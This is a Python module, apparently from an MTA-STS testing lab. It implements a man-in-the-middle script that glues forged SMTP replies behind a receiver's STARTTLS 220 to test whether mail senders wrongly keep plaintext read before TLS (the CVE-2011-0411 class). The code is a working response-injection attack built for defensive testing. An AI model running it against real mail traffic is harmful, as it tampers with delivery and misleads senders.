"""inject_response: forged replies follow the 220 in clear, to be taken for replies from inside TLS.

On the wire: STARTTLS reaches the receiver, and its 220 reaches the sender in one segment with two forged replies behind
it: one to EHLO, which offers X-INJECTED and neither STARTTLS nor PIPELINING, and a 550, which refuses for good. Then
the genuine handshake passes through unread, with the receiver's own valid certificate: the attacker holds no key and
cannot read the message. A sender that keeps what it had read before TLS takes the first for the answer to its second
EHLO and the other for the answer to MAIL FROM, and returns the message to its author.

What it proves: whether the sender throws away everything it has read before the handshake (RFC 3207, sections 4.2 and
6; CVE-2011-0411 on the client's side). The 550 is there because it shows from outside: a sender that reads on under a
forged EHLO reply alone gets out of step and gives up, which a careful one may do as well.

With `what` = `unfinished` the lines behind the 220 are the beginning of an EHLO reply alone: they offer DSN (RFC 3461),
which the receiver does not know, and the last of them has no line end. Senders were seen that throw away whole replies
and keep what is unfinished; the receiver's first reply inside TLS is then read as its end, and DSN as offered inside
TLS. Such a sender says RCPT TO with NOTIFY, and is refused.

A careful sender ignores the forged lines and delivers inside TLS, or gives up the session and tries again.
"""

from __future__ import annotations

from mta_sts_lab.attacks.toolkit.attack import Parameters, Script, Session, smtp_attack
from mta_sts_lab.attacks.toolkit.smtp import Line, Reply, reply

#: A word that no host of the lab says: whoever repeats it (in a bounce, in a log) has read a forged reply.
CANARY = "X-INJECTED"


def _forged(host: str) -> tuple[Reply, Reply]:
    return reply(250, host, "8BITMIME", CANARY), reply(550, f"5.7.1 {CANARY}: not wanted here")


def _unfinished(host: str) -> Reply:
    return Reply((f"250-{host}", "250-DSN", f"250-{CANARY} "))


@smtp_attack("glues forged replies behind the 220, then lets TLS through", {"what": ("replies", "unfinished")})
def inject_response(session: Session, parameters: Parameters) -> Script:
    """Relay, with forged replies behind the 220, and let the TLS behind them through."""
    yield from session.relay_greeting()
    while (command := (yield from session.read_command())) is not None:
        if command.verb != "STARTTLS":
            if (yield from session.relay(command)) is None:
                return
            continue
        genuine = yield from session.ask(command)
        if genuine is None:
            return
        if genuine.code != "220":
            yield from session.answer([Line(line) for line in genuine.lines])
            continue
        if parameters["what"] == "replies":
            detail = "glued a forged EHLO reply and a forged 550 behind the 220"
            yield from session.answer_with_more(genuine, _forged(session.host), detail)
        else:
            detail = "glued the beginning of a forged EHLO reply behind the 220"
            yield from session.answer_with_more(genuine, [_unfinished(session.host)], detail, ended=False)
        if (yield from session.handshake_follows()):
            yield from session.pipe()
        else:
            # The receiver waits for TLS, and could not answer what is said in clear.
            yield from session.listen_to_the_end()
        return
